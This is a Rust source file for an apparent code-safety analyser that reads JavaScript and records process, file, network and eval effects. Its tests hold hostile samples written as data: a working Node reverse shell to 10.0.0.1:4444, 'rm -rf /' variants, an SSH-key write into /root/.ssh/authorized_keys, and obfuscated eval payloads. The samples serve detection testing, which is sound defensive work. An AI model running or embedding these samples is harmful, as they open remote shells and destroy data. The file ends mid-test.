//! JavaScript (Node, Deno, Bun), read with tree-sitter-javascript: `require` and `import`
//! resolved with their bindings (`const cp = require('child_process')`,
//! `const {execSync: x} = require('node:child_process')`, `import {spawn as s} from …`,
//! `process.mainModule.require`, `global['require']`), literals carried through
//! declarations, and the `child_process`, `fs`, `net`/`tls`, HTTP and `eval` calls turned
//! into [`Facts`].

use tree_sitter::Node;

use super::decode::{Encoding, decode};
use super::functions::{Func, Funcs};
use super::tree::{self, Grammar, named, text, unescape};
use super::{Facts, Lang, MAX_NODE_DEPTH, Origin, Scope, UNKNOWN, Value, concat};

/// Modules whose use means the code can start processes or open sockets.
const PROCESS_MODULES: &[&str] = &[
    "child_process",
    "net",
    "tls",
    "dgram",
    "worker_threads",
    "cluster",
];

/// Globals the reader resolves by name.
const GLOBALS: &[&str] = &[
    "require",
    "eval",
    "Function",
    "fetch",
    "atob",
    "Buffer",
    "process",
    "setTimeout",
    "setInterval",
    "String",
    "WebSocket",
    "Deno",
    "Bun",
    "module",
];

pub(super) fn analyse(code: &str, depth: usize, f: &mut Facts) {
    // A `#!` line is not JavaScript; node skips it.
    let code_start = if code.starts_with("#!") {
        code.find('\n').unwrap_or(code.len())
    } else {
        0
    };
    let body = &code[code_start..];
    let tree = match tree::parse(body, Grammar::JavaScript) {
        Ok(t) => t,
        Err(e) => {
            f.errors.push(e);
            return;
        }
    };
    let mut r = Reader {
        src: body,
        scope: Scope::default(),
        funcs: Funcs::default(),
        f,
        depth,
        level: 0,
    };
    r.visit(tree.root_node());
    r.read_unfollowed();
}

struct Reader<'t, 's, 'f> {
    src: &'s str,
    scope: Scope,
    /// Functions, function expressions and arrow functions the program defines.
    funcs: Funcs<'t>,
    f: &'f mut Facts,
    depth: usize,
    level: usize,
}

fn at(a: &[Value], i: usize) -> Value {
    a.get(i).cloned().unwrap_or_else(Value::unknown)
}

fn origin(a: &[Value]) -> Origin {
    a.iter().map(Value::origin).max().unwrap_or(Origin::Plain)
}

/// `node:child_process` is `child_process`; `fs/promises` is `fs.promises`.
fn module_name(m: &str) -> String {
    let m = m.strip_prefix("node:").unwrap_or(m);
    m.replace('/', ".")
}

fn member(obj: Value, prop: &str) -> Value {
    match obj {
        Value::Name(q) if q.is_empty() => Value::Name(prop.to_string()),
        Value::Name(q) => Value::Name(format!("{q}.{prop}")),
        Value::Inst(class, v) => Value::Method(class, prop.to_string(), v),
        s @ Value::Str { .. } => Value::Method("str", prop.to_string(), Box::new(s)),
        l @ Value::List(_) => Value::Method("list", prop.to_string(), Box::new(l)),
        Value::Obj(kv) => kv
            .into_iter()
            .find(|(k, _)| k == prop)
            .map(|(_, v)| v)
            .unwrap_or_else(Value::unknown),
        other => Value::Unknown(other.origin()),
    }
}

/// `net.connect(port, host)` or `net.connect({host, port})`.
fn connect_args(f: &mut Facts, a: &[Value]) {
    match at(a, 0) {
        o @ Value::Obj(_) => {
            let host = o
                .field("host")
                .cloned()
                .unwrap_or_else(|| Value::str("localhost"));
            let port = o.field("port").cloned().unwrap_or_else(Value::unknown);
            f.connect(host, port);
        }
        port => {
            let host = match a.get(1) {
                Some(h @ Value::Str { .. }) => h.clone(),
                Some(Value::Unknown(o)) => Value::Unknown(*o),
                _ => Value::str("localhost"),
            };
            f.connect(host, port);
        }
    }
}

/// The options object among the arguments (`{recursive: true}`, `{shell: true}`).
fn options(a: &[Value]) -> Value {
    a.iter()
        .find(|v| matches!(v, Value::Obj(_)))
        .cloned()
        .unwrap_or(Value::Obj(Vec::new()))
}

fn mode(v: &Value) -> Value {
    match v {
        Value::Num(n) => Value::str(format!("{n:o}")),
        other => other.clone(),
    }
}

impl<'t> Reader<'t, '_, '_> {
    fn enter(&mut self) -> bool {
        self.level += 1;
        if self.level > MAX_NODE_DEPTH {
            if self.f.errors.is_empty() {
                self.f.errors.push(format!(
                    "JavaScript code nested deeper than {MAX_NODE_DEPTH} levels"
                ));
            }
            return false;
        }
        true
    }

    fn t(&self, n: Node<'t>) -> &str {
        text(n, self.src)
    }

    fn visit(&mut self, n: Node<'t>) {
        if self.enter() {
            match n.kind() {
                "import_statement" => self.import(n),
                // Declarations are hoisted: a call may come before the function.
                "program" | "statement_block" => {
                    for c in named(n) {
                        if matches!(
                            c.kind(),
                            "function_declaration" | "generator_function_declaration"
                        ) {
                            self.define(c);
                        }
                    }
                    for c in named(n) {
                        self.visit(c);
                    }
                }
                "function_declaration" | "generator_function_declaration" => {
                    self.define(n);
                }
                "return_statement" => {
                    let v = named(n)
                        .first()
                        .map_or_else(Value::unknown, |e| self.eval(*e));
                    if self.funcs.in_call() && self.funcs.ret.is_none() {
                        self.funcs.ret = Some(v);
                    }
                }
                "variable_declarator" => {
                    let v = n
                        .child_by_field_name("value")
                        .map_or_else(Value::unknown, |v| self.eval(v));
                    if let Some(name) = n.child_by_field_name("name") {
                        self.bind(name, v);
                    }
                }
                _ => {
                    self.eval(n);
                }
            }
        }
        self.level -= 1;
    }

    fn note_module(&mut self, m: &str) {
        let top = m.split('.').next().unwrap_or(m);
        if PROCESS_MODULES.contains(&top) {
            self.f.process_module = true;
        }
    }

    fn import(&mut self, n: Node<'t>) {
        let Some(src) = n.child_by_field_name("source") else {
            return;
        };
        let Some(m) = self.eval(src).known() else {
            return;
        };
        let m = module_name(&m);
        self.note_module(&m);
        for clause in named(n).into_iter().filter(|c| c.kind() == "import_clause") {
            for c in named(clause) {
                match c.kind() {
                    "identifier" => {
                        let id = self.t(c).to_string();
                        self.scope.set(&id, Value::Name(m.clone()));
                    }
                    "namespace_import" => {
                        if let Some(id) = named(c).first() {
                            let id = self.t(*id).to_string();
                            self.scope.set(&id, Value::Name(m.clone()));
                        }
                    }
                    "named_imports" => {
                        for spec in named(c) {
                            let Some(name) = spec.child_by_field_name("name") else {
                                continue;
                            };
                            let name = match name.kind() {
                                "string" => self.eval(name).known().unwrap_or_default(),
                                _ => self.t(name).to_string(),
                            };
                            let local = spec
                                .child_by_field_name("alias")
                                .map_or_else(|| name.clone(), |a| self.t(a).to_string());
                            self.scope.set(&local, Value::Name(format!("{m}.{name}")));
                        }
                    }
                    _ => {}
                }
            }
        }
    }

    /// Binds a declaration's pattern to a value.
    fn bind(&mut self, pat: Node<'t>, v: Value) {
        match pat.kind() {
            "identifier" | "shorthand_property_identifier_pattern" => {
                let id = self.t(pat).to_string();
                self.scope.set(&id, v);
            }
            "object_pattern" => {
                for c in named(pat) {
                    match c.kind() {
                        "shorthand_property_identifier_pattern" => {
                            let id = self.t(c).to_string();
                            self.scope.set(&id, member(v.clone(), &id));
                        }
                        "pair_pattern" => {
                            let (Some(k), Some(target)) =
                                (c.child_by_field_name("key"), c.child_by_field_name("value"))
                            else {
                                continue;
                            };
                            let key = match k.kind() {
                                "property_identifier" => Some(self.t(k).to_string()),
                                _ => self.eval(k).known(),
                            };
                            let val = key.map_or_else(Value::unknown, |k| member(v.clone(), &k));
                            self.bind(target, val);
                        }
                        "object_assignment_pattern" => {
                            if let Some(left) = c.child_by_field_name("left") {
                                let id = self.t(left).to_string();
                                self.scope.set(&id, member(v.clone(), &id));
                            }
                        }
                        _ => {}
                    }
                }
            }
            "assignment_pattern" => {
                if let Some(left) = pat.child_by_field_name("left") {
                    self.bind(left, v);
                }
            }
            "array_pattern" => {
                for (i, c) in named(pat).into_iter().enumerate() {
                    let e = match &v {
                        Value::List(items) => at(items, i),
                        _ => Value::unknown(),
                    };
                    self.bind(c, e);
                }
            }
            _ => {}
        }
    }

    fn eval(&mut self, n: Node<'t>) -> Value {
        if !self.enter() {
            self.level -= 1;
            return Value::unknown();
        }
        let v = self.eval_inner(n);
        self.level -= 1;
        v
    }

    fn eval_inner(&mut self, n: Node<'t>) -> Value {
        match n.kind() {
            "string" | "template_string" => self.string(n),
            "number" => {
                let t = self.t(n).replace('_', "").to_ascii_lowercase();
                let parsed = if let Some(o) = t.strip_prefix("0o") {
                    i64::from_str_radix(o, 8).ok()
                } else if let Some(x) = t.strip_prefix("0x") {
                    i64::from_str_radix(x, 16).ok()
                } else {
                    t.parse().ok()
                };
                parsed.map_or_else(Value::unknown, Value::Num)
            }
            "true" => Value::Bool(true),
            "false" => Value::Bool(false),
            "identifier" => {
                let id = self.t(n).to_string();
                if let Some(v) = self.scope.get(&id) {
                    return v.clone();
                }
                match id.as_str() {
                    "globalThis" | "global" | "window" | "self" => Value::Name(String::new()),
                    _ if GLOBALS.contains(&id.as_str()) => Value::Name(id.clone()),
                    _ => Value::unknown(),
                }
            }
            "member_expression" => {
                let obj = n
                    .child_by_field_name("object")
                    .map_or_else(Value::unknown, |o| self.eval(o));
                let prop = n
                    .child_by_field_name("property")
                    .map(|p| self.t(p).to_string())
                    .unwrap_or_default();
                member(obj, &prop)
            }
            "subscript_expression" => {
                let obj = n
                    .child_by_field_name("object")
                    .map_or_else(Value::unknown, |o| self.eval(o));
                let idx = n
                    .child_by_field_name("index")
                    .map_or_else(Value::unknown, |i| self.eval(i));
                match (obj, idx) {
                    (Value::List(v), Value::Num(i)) => usize::try_from(i)
                        .ok()
                        .and_then(|i| v.get(i).cloned())
                        .unwrap_or_else(Value::unknown),
                    (obj, idx) => match idx.known() {
                        Some(k) => member(obj, &k),
                        None => Value::Unknown(obj.origin()),
                    },
                }
            }
            "call_expression" | "new_expression" => self.call(n),
            "function_expression" | "generator_function" | "arrow_function" => self.define(n),
            "await_expression" | "parenthesized_expression" | "sequence_expression" => {
                let mut last = Value::unknown();
                for c in named(n) {
                    last = self.eval(c);
                }
                last
            }
            "array" => {
                let mut items = Vec::new();
                for c in named(n) {
                    if c.kind() == "spread_element" {
                        match named(c).first().map(|x| self.eval(*x)) {
                            Some(Value::List(v)) => items.extend(v),
                            _ => items.push(Value::unknown()),
                        }
                    } else {
                        items.push(self.eval(c));
                    }
                }
                Value::List(items)
            }
            "object" => {
                let mut kv = Vec::new();
                for c in named(n) {
                    match c.kind() {
                        "pair" => {
                            let key = c.child_by_field_name("key").and_then(|k| match k.kind() {
                                "property_identifier" => Some(self.t(k).to_string()),
                                _ => self.eval(k).known(),
                            });
                            let v = c
                                .child_by_field_name("value")
                                .map_or_else(Value::unknown, |v| self.eval(v));
                            if let Some(k) = key {
                                kv.push((k, v));
                            }
                        }
                        "shorthand_property_identifier" => {
                            let id = self.t(c).to_string();
                            let v = self.scope.get(&id).cloned().unwrap_or_else(Value::unknown);
                            kv.push((id, v));
                        }
                        _ => self.visit(c),
                    }
                }
                Value::Obj(kv)
            }
            "binary_expression" => {
                let l = n
                    .child_by_field_name("left")
                    .map_or_else(Value::unknown, |x| self.eval(x));
                let r = n
                    .child_by_field_name("right")
                    .map_or_else(Value::unknown, |x| self.eval(x));
                let op = n
                    .child_by_field_name("operator")
                    .map(|o| self.t(o).to_string())
                    .unwrap_or_default();
                match (op.as_str(), l, r) {
                    ("+", Value::Num(a), Value::Num(b)) => Value::Num(a.wrapping_add(b)),
                    ("+", a, b) => concat(&[a, b]),
                    ("||" | "??", a, _) if !matches!(a, Value::Unknown(_)) => a,
                    (_, a, b) => Value::Unknown(a.origin().max(b.origin())),
                }
            }
            "assignment_expression" => {
                let v = n
                    .child_by_field_name("right")
                    .map_or_else(Value::unknown, |r| self.eval(r));
                if let Some(left) = n.child_by_field_name("left") {
                    match left.kind() {
                        "identifier" | "object_pattern" | "array_pattern" => {
                            self.bind(left, v.clone())
                        }
                        _ => {
                            self.eval(left);
                        }
                    }
                }
                v
            }
            "augmented_assignment_expression" => {
                let r = n
                    .child_by_field_name("right")
                    .map_or_else(Value::unknown, |r| self.eval(r));
                if let Some(left) = n
                    .child_by_field_name("left")
                    .filter(|l| l.kind() == "identifier")
                {
                    let id = self.t(left).to_string();
                    let old = self.scope.get(&id).cloned().unwrap_or_else(Value::unknown);
                    let op = n
                        .child_by_field_name("operator")
                        .map(|o| self.t(o).to_string())
                        .unwrap_or_default();
                    let new = if op == "+=" {
                        concat(&[old, r])
                    } else {
                        Value::unknown()
                    };
                    self.scope.set(&id, new);
                }
                Value::unknown()
            }
            _ => {
                for c in named(n) {
                    self.visit(c);
                }
                Value::unknown()
            }
        }
    }

    fn string(&mut self, n: Node<'t>) -> Value {
        let mut out = String::new();
        let mut known = true;
        for c in named(n) {
            match c.kind() {
                "string_fragment" => out.push_str(self.t(c)),
                "escape_sequence" => out.push_str(&unescape(self.t(c))),
                "template_substitution" => {
                    let v = named(c)
                        .first()
                        .map_or_else(Value::unknown, |e| self.eval(*e));
                    match v.text() {
                        Some((t, k)) => {
                            out.push_str(&t);
                            known &= k;
                        }
                        None => {
                            out.push_str(UNKNOWN);
                            known = false;
                        }
                    }
                }
                _ => {}
            }
        }
        Value::Str { text: out, known }
    }

    fn call(&mut self, n: Node<'t>) -> Value {
        let callee = n
            .child_by_field_name("function")
            .or_else(|| n.child_by_field_name("constructor"));
        let func = match callee {
            // `import('child_process')`.
            Some(c) if c.kind() == "import" => Value::Name("require".into()),
            Some(c) => self.eval(c),
            None => Value::unknown(),
        };
        let mut args = Vec::new();
        if let Some(a) = n.child_by_field_name("arguments") {
            if a.kind() == "arguments" {
                for c in named(a) {
                    if c.kind() == "spread_element" {
                        match named(c).first().map(|x| self.eval(*x)) {
                            Some(Value::List(v)) => args.extend(v),
                            _ => args.push(Value::unknown()),
                        }
                    } else {
                        let v = self.eval(c);
                        args.push(v);
                    }
                }
            } else {
                // A tagged template: the function gets the pieces.
                self.eval(a);
                args.push(Value::unknown());
            }
        }
        if let Value::Func(i) = func {
            return self.call_local(i, args);
        }
        // A function handed to code the reader does not follow (`setTimeout(f)`,
        // `xs.forEach(f)`) may be called with anything.
        for v in &args {
            self.funcs.escape(v);
        }
        match func {
            Value::Name(q) => self.api(&q, &args),
            Value::Method(class, m, recv) => self.method(class, &m, *recv, &args),
            other => Value::Unknown(other.origin().max(origin(&args))),
        }
    }

    /// Records a function definition; a declaration also binds its name.
    fn define(&mut self, n: Node<'t>) -> Value {
        let Some(body) = n.child_by_field_name("body") else {
            return Value::unknown();
        };
        let params = n
            .child_by_field_name("parameters")
            .or_else(|| n.child_by_field_name("parameter"));
        let f = self.funcs.define(n, params, body);
        if n.kind().ends_with("_declaration")
            && let Some(name) = n.child_by_field_name("name")
        {
            let name = self.t(name).to_string();
            self.scope.set(&name, f.clone());
        }
        f
    }

    /// A call to a function the program defined: its body read with the parameters bound
    /// to the call's values, in a scope that is dropped afterwards.
    fn call_local(&mut self, i: usize, args: Vec<Value>) -> Value {
        let Some(func) = self.funcs.enter(i) else {
            return Value::unknown();
        };
        let saved = self.scope.clone();
        let saved_ret = self.funcs.ret.take();
        self.bind_params(func.params, Some(&args));
        let v = self.read_body(func);
        self.funcs.ret = saved_ret;
        self.scope = saved;
        self.funcs.leave();
        v
    }

    /// Reads a function body; an arrow function's value is its expression, a block's its
    /// first `return`.
    fn read_body(&mut self, func: Func<'t>) -> Value {
        if func.body.kind() == "statement_block" {
            self.visit(func.body);
            self.funcs.ret.take().unwrap_or_else(Value::unknown)
        } else {
            self.eval(func.body)
        }
    }

    /// Binds parameters to a call's values (`None`: all unknown): patterns and defaults
    /// as declarations bind them, `...rest` takes the remaining values.
    fn bind_params(&mut self, params: Option<Node<'t>>, args: Option<&[Value]>) {
        let Some(params) = params else { return };
        // `x => …`: the one parameter is the identifier itself.
        let list = if params.kind() == "formal_parameters" {
            named(params)
        } else {
            vec![params]
        };
        for (i, p) in list.into_iter().enumerate() {
            let given = args.and_then(|a| a.get(i)).cloned();
            match p.kind() {
                "rest_pattern" => {
                    let rest = match args {
                        Some(a) => Value::List(a.iter().skip(i).cloned().collect()),
                        None => Value::unknown(),
                    };
                    if let Some(target) = named(p).first() {
                        self.bind(*target, rest);
                    }
                }
                "assignment_pattern" => {
                    let v = match (given, args) {
                        (Some(v), _) => v,
                        (None, Some(_)) => p
                            .child_by_field_name("right")
                            .map_or_else(Value::unknown, |d| self.eval(d)),
                        (None, None) => Value::unknown(),
                    };
                    self.bind(p, v);
                }
                _ => self.bind(p, given.unwrap_or_else(Value::unknown)),
            }
        }
    }

    /// Bodies no call followed (never called by name, passed as values, past a limit):
    /// read once with every parameter unknown.
    fn read_unfollowed(&mut self) {
        while let Some(func) = self.funcs.next_unread() {
            let saved = self.scope.clone();
            self.bind_params(func.params, None);
            self.read_body(func);
            self.funcs.ret = None;
            self.scope = saved;
        }
    }

    fn api(&mut self, q: &str, a: &[Value]) -> Value {
        let q = q
            .strip_prefix("process.mainModule.")
            .or_else(|| q.strip_prefix("module."))
            .unwrap_or(q);
        let f = &mut *self.f;
        match q {
            "require" => match at(a, 0).known() {
                Some(m) => {
                    let m = module_name(&m);
                    self.note_module(&m);
                    Value::Name(m)
                }
                None => {
                    self.f.process_module = true;
                    Value::unknown()
                }
            },
            "process.binding" | "process._linkedBinding" => {
                f.process_module = true;
                f.bind = true;
                Value::unknown()
            }
            "eval"
            | "vm.runInThisContext"
            | "vm.runInNewContext"
            | "vm.runInContext"
            | "vm.Script"
            | "vm.compileFunction" => {
                f.eval(&at(a, 0), Lang::JavaScript, self.depth);
                Value::unknown()
            }
            "Function" => {
                // The body is the last argument.
                let body = a.last().cloned().unwrap_or_else(|| Value::str(""));
                f.eval(&body, Lang::JavaScript, self.depth);
                Value::unknown()
            }
            "setTimeout" | "setInterval" => {
                if let v @ (Value::Str { .. } | Value::Unknown(_)) = at(a, 0) {
                    f.eval(&v, Lang::JavaScript, self.depth);
                }
                Value::unknown()
            }
            "child_process.exec" | "child_process.execSync" => {
                f.shell(at(a, 0));
                Value::unknown()
            }
            "child_process.execFile"
            | "child_process.execFileSync"
            | "child_process.spawn"
            | "child_process.spawnSync" => {
                let mut argv = vec![at(a, 0)];
                match a.get(1) {
                    Some(Value::List(v)) => argv.extend(v.iter().cloned()),
                    Some(Value::Unknown(o)) => argv.push(Value::Unknown(*o)),
                    _ => {}
                }
                let shell = options(a).field("shell").is_some_and(Value::is_true);
                f.command(Value::List(argv), shell);
                Value::Inst("child", Box::new(Value::unknown()))
            }
            "child_process.fork" => {
                let mut argv = vec![Value::str("node"), at(a, 0)];
                if let Some(Value::List(v)) = a.get(1) {
                    argv.extend(v.iter().cloned());
                }
                f.exec(argv);
                Value::unknown()
            }
            "Deno.run" | "Deno.Command" | "Bun.spawn" | "Bun.spawnSync" => {
                let argv = match at(a, 0) {
                    Value::Obj(kv) => kv
                        .into_iter()
                        .find(|(k, _)| k == "cmd")
                        .map(|(_, v)| v)
                        .unwrap_or_else(Value::unknown),
                    other if q == "Deno.Command" => {
                        let mut v = vec![other];
                        if let Value::List(rest) = options(a)
                            .field("args")
                            .cloned()
                            .unwrap_or(Value::List(Vec::new()))
                        {
                            v.extend(rest);
                        }
                        Value::List(v)
                    }
                    other => other,
                };
                f.command(argv, false);
                Value::unknown()
            }
            "fs.rmSync" | "fs.rm" | "fs.promises.rm" | "fs.rmdirSync" | "fs.rmdir"
            | "fs.promises.rmdir" => {
                if options(a).field("recursive").is_some_and(Value::is_true) {
                    f.as_command(&["rm", "-r", "-f"], vec![at(a, 0)]);
                } else if q.contains("rmdir") {
                    f.as_command(&["rmdir"], vec![at(a, 0)]);
                } else {
                    f.as_command(&["rm", "-f"], vec![at(a, 0)]);
                }
                Value::unknown()
            }
            "fs.unlinkSync" | "fs.unlink" | "fs.promises.unlink" => {
                f.as_command(&["rm", "-f"], vec![at(a, 0)]);
                Value::unknown()
            }
            "fs-extra.removeSync"
            | "fs-extra.remove"
            | "fs-extra.emptyDirSync"
            | "fs-extra.emptyDir"
            | "rimraf"
            | "rimraf.sync"
            | "rimraf.rimraf"
            | "rimraf.rimrafSync"
            | "rimraf.native" => {
                f.as_command(&["rm", "-r", "-f"], vec![at(a, 0)]);
                Value::unknown()
            }
            "fs.writeFileSync"
            | "fs.writeFile"
            | "fs.appendFileSync"
            | "fs.appendFile"
            | "fs.createWriteStream"
            | "fs.promises.writeFile"
            | "fs.promises.appendFile"
            | "fs-extra.outputFileSync"
            | "fs-extra.outputFile"
            | "Deno.writeTextFile"
            | "Deno.writeFile"
            | "Bun.write" => {
                f.write(at(a, 0));
                Value::unknown()
            }
            "fs.openSync" | "fs.open" | "fs.promises.open" => {
                match at(a, 1).known() {
                    Some(flags) if !flags.contains(['w', 'a', '+']) => f.read(at(a, 0)),
                    None if a.len() < 2 => f.read(at(a, 0)),
                    _ => f.write(at(a, 0)),
                }
                Value::unknown()
            }
            "fs.readFileSync"
            | "fs.readFile"
            | "fs.promises.readFile"
            | "fs.createReadStream"
            | "Deno.readTextFile"
            | "Deno.readFile" => {
                f.read(at(a, 0));
                Value::unknown()
            }
            "fs.renameSync" | "fs.rename" | "fs.promises.rename" | "fs-extra.moveSync" => {
                f.as_command(&["mv"], vec![at(a, 0), at(a, 1)]);
                Value::unknown()
            }
            "fs.copyFileSync" | "fs.copyFile" | "fs.promises.copyFile" => {
                f.as_command(&["cp"], vec![at(a, 0), at(a, 1)]);
                Value::unknown()
            }
            "fs.cpSync" | "fs.cp" | "fs.promises.cp" | "fs-extra.copySync" => {
                f.as_command(&["cp", "-r"], vec![at(a, 0), at(a, 1)]);
                Value::unknown()
            }
            "fs.chmodSync" | "fs.chmod" | "fs.promises.chmod" => {
                f.exec(vec![
                    Value::str("chmod"),
                    mode(&at(a, 1)),
                    Value::str("--"),
                    at(a, 0),
                ]);
                Value::unknown()
            }
            "fs.symlinkSync" | "fs.symlink" => {
                f.as_command(&["ln", "-s"], vec![at(a, 0), at(a, 1)]);
                Value::unknown()
            }
            "net.connect" | "net.createConnection" | "tls.connect" => {
                connect_args(f, a);
                Value::Inst("socket", Box::new(Value::unknown()))
            }
            "net.Socket" | "net.Stream" | "tls.TLSSocket" => {
                f.socket = true;
                f.process_module = true;
                Value::Inst("socket", Box::new(Value::unknown()))
            }
            "dgram.createSocket" => {
                f.socket = true;
                Value::Inst("udp", Box::new(Value::unknown()))
            }
            "net.createServer" | "http.createServer" | "https.createServer"
            | "tls.createServer" => Value::Inst("server", Box::new(Value::unknown())),
            "http.get" | "http.request" | "https.get" | "https.request" | "fetch" | "axios"
            | "axios.get" | "axios.post" | "axios.put" | "axios.delete" | "axios.request"
            | "WebSocket" => {
                let target = match at(a, 0) {
                    o @ Value::Obj(_) => o
                        .field("url")
                        .or_else(|| o.field("hostname"))
                        .or_else(|| o.field("host"))
                        .cloned()
                        .unwrap_or_else(Value::unknown),
                    other => other,
                };
                f.request(target);
                Value::Unknown(Origin::Fetched)
            }
            "atob" => decode(&at(a, 0), Encoding::Base64),
            "Buffer.from" => match at(a, 1).known().and_then(|e| Encoding::named(&e)) {
                Some(e) => decode(&at(a, 0), e),
                None if a.len() < 2 => at(a, 0),
                None => Value::Unknown(Origin::Decoded),
            },
            "String.fromCharCode" | "String.fromCodePoint" => {
                let mut s = String::new();
                for v in a {
                    match v {
                        Value::Num(n) => match u32::try_from(*n).ok().and_then(char::from_u32) {
                            Some(c) => s.push(c),
                            None => return Value::Unknown(Origin::Decoded),
                        },
                        _ => return Value::Unknown(Origin::Decoded),
                    }
                }
                Value::str(s)
            }
            "zlib.inflateSync"
            | "zlib.gunzipSync"
            | "zlib.unzipSync"
            | "zlib.brotliDecompressSync"
            | "zlib.inflateRawSync" => Value::Unknown(Origin::Decoded),
            "String" => at(a, 0),
            _ => Value::Unknown(origin(a)),
        }
    }

    fn method(&mut self, class: &'static str, m: &str, recv: Value, a: &[Value]) -> Value {
        let f = &mut *self.f;
        match (class, m) {
            ("socket", "connect") => {
                connect_args(f, a);
                Value::Inst("socket", recv.into())
            }
            ("socket", "pipe") | ("child", "pipe") => {
                f.bind = true;
                Value::unknown()
            }
            ("udp", "send") => {
                let host = a
                    .iter()
                    .rev()
                    .find(|v| matches!(v, Value::Str { .. }))
                    .cloned()
                    .unwrap_or_else(Value::unknown);
                let port = a
                    .iter()
                    .find(|v| matches!(v, Value::Num(_)))
                    .cloned()
                    .unwrap_or_else(Value::unknown);
                f.connect(host, port);
                Value::unknown()
            }
            ("server", "listen") => {
                f.listen();
                Value::unknown()
            }
            ("str", "toString" | "trim" | "valueOf") => recv,
            ("str", "split") => match (recv.known(), at(a, 0).known()) {
                (Some(s), Some(sep)) if sep.is_empty() => {
                    Value::List(s.chars().map(|c| Value::str(c.to_string())).collect())
                }
                (Some(s), Some(sep)) => {
                    Value::List(s.split(sep.as_str()).map(Value::str).collect())
                }
                _ => Value::unknown(),
            },
            ("str", "replace" | "replaceAll") => {
                match (recv.text(), at(a, 0).known(), at(a, 1).known()) {
                    (Some((t, k)), Some(x), Some(y)) if !x.is_empty() => Value::Str {
                        text: if m == "replace" {
                            t.replacen(&x, &y, 1)
                        } else {
                            t.replace(&x, &y)
                        },
                        known: k,
                    },
                    _ => Value::Unknown(recv.origin()),
                }
            }
            ("str", "concat") => {
                let mut parts = vec![recv];
                parts.extend(a.iter().cloned());
                concat(&parts)
            }
            // `args.slice(1)`: how a helper passes on the rest of its arguments.
            ("list", "slice") => match (recv, at(a, 0), a.get(1)) {
                (Value::List(v), Value::Num(from), end) => {
                    let n = v.len() as i64;
                    let clamp = |i: i64| (if i < 0 { n + i } else { i }).clamp(0, n) as usize;
                    let to = match end {
                        Some(Value::Num(e)) => clamp(*e),
                        None => v.len(),
                        Some(_) => return Value::unknown(),
                    };
                    let from = clamp(from);
                    Value::List(v.get(from..to.max(from)).unwrap_or_default().to_vec())
                }
                (other, _, _) => Value::Unknown(other.origin()),
            },
            ("list", "reverse") => match recv {
                Value::List(mut v) => {
                    v.reverse();
                    Value::List(v)
                }
                other => other,
            },
            ("list", "join") => match recv {
                Value::List(items) => {
                    let sep = if a.is_empty() {
                        ",".to_string()
                    } else {
                        at(a, 0).render()
                    };
                    let mut parts = Vec::new();
                    for (i, it) in items.into_iter().enumerate() {
                        if i > 0 {
                            parts.push(Value::str(sep.clone()));
                        }
                        parts.push(it);
                    }
                    concat(&parts)
                }
                other => Value::Unknown(other.origin()),
            },
            ("socket", "on") | ("child", "on") => Value::Inst(class, recv.into()),
            _ => Value::Unknown(recv.origin().max(origin(a))),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::{Effect, analyse};
    use super::*;

    fn js(code: &str) -> Facts {
        analyse(code, Lang::JavaScript)
    }

    fn s(x: &str) -> Value {
        Value::str(x)
    }

    fn argv(xs: &[&str]) -> Effect {
        Effect::Exec(xs.iter().map(|x| s(x)).collect())
    }

    #[test]
    fn process_calls() {
        let f = js("require('child_process').execSync('rm -rf /')");
        assert_eq!(f.effects, [Effect::Shell(s("rm -rf /"))]);
        let f = js("const cp = require('node:child_process'); cp.spawnSync('rm', ['-rf', '/srv'])");
        assert_eq!(f.effects, [argv(&["rm", "-rf", "/srv"])]);
        let f = js("require('child_process').spawn('rm', ['-rf', '/'], {shell: true})");
        assert_eq!(f.effects, [Effect::Shell(s("rm -rf /"))]);
        let f = js("const d = '/home'; require('child_process').exec(`rm -rf ${d}`)");
        assert_eq!(f.effects, [Effect::Shell(s("rm -rf /home"))]);
    }

    #[test]
    fn imports_and_aliases() {
        let f = js("const {execSync: x} = require('child_process'); x('rm -rf ~')");
        assert_eq!(f.effects, [Effect::Shell(s("rm -rf ~"))]);
        let f = js("import {exec as run} from 'child_process'; run('id')");
        assert_eq!(f.effects, [Effect::Shell(s("id"))]);
        let f = js(
            "import * as cp from 'node:child_process'; cp.execFileSync('/bin/rm', ['-rf', '/'])",
        );
        assert_eq!(f.effects, [argv(&["/bin/rm", "-rf", "/"])]);
        let f = js("process.mainModule.require('child_process').execSync('id')");
        assert_eq!(f.effects, [Effect::Shell(s("id"))]);
        let f = js("global['req' + 'uire']('child_' + 'process')['exec' + 'Sync']('id')");
        assert_eq!(f.effects, [Effect::Shell(s("id"))]);
    }

    #[test]
    fn deletion_and_writes() {
        let f = js("require('fs').rmSync('/',{recursive:true})");
        assert_eq!(f.effects, [argv(&["rm", "-r", "-f", "--", "/"])]);
        let f = js("const fs = require('fs'); fs.unlinkSync('/etc/hosts')");
        assert_eq!(f.effects, [argv(&["rm", "-f", "--", "/etc/hosts"])]);
        let f = js("require('fs').writeFileSync('/root/.ssh/authorized_keys', 'ssh-ed25519 AAAA')");
        assert_eq!(f.effects, [Effect::Write(s("/root/.ssh/authorized_keys"))]);
        let f = js(
            "const {promises: p} = require('fs'); p.rm('build', {recursive: true, force: true})",
        );
        assert_eq!(f.effects, [argv(&["rm", "-r", "-f", "--", "build"])]);
    }

    #[test]
    fn sockets_and_reverse_shells() {
        let f = js(
            r#"var n=require("net"),c=require("child_process"),s=new n.Socket(),sh=c.spawn("/bin/sh",[]);s.connect(4444,"10.0.0.1",function(){s.pipe(sh.stdin);sh.stdout.pipe(s);});"#,
        );
        assert!(
            f.effects
                .contains(&Effect::Connect(s("10.0.0.1"), Value::Num(4444)))
        );
        assert!(f.reverse_shell());
        let f = js("require('net').connect({host: 'c2.example', port: 9001})");
        assert_eq!(
            f.effects,
            [Effect::Connect(s("c2.example"), Value::Num(9001))]
        );
        assert!(!f.reverse_shell());
    }

    #[test]
    fn evaluated_code() {
        // eval(atob(…)) of `require('child_process').execSync('id')`.
        let f = js("eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdpZCcp'))");
        assert_eq!(f.effects, [Effect::Shell(s("id"))]);
        let f = js("eval(Buffer.from('72657175697265282766732729','hex').toString())");
        assert!(f.errors.is_empty() && !f.decode_exec, "{f:?}");
        let f = js(
            "new Function(String.fromCharCode(114,101,113,117,105,114,101,40,39,102,115,39,41,46,114,109,83,121,110,99,40,39,47,39,41))()",
        );
        assert_eq!(f.effects, [argv(&["rm", "-f", "--", "/"])]);
        let f = js("const cp = require('child_process'); eval(process.argv[2])");
        assert!(f.eval_unknown && f.process_module);
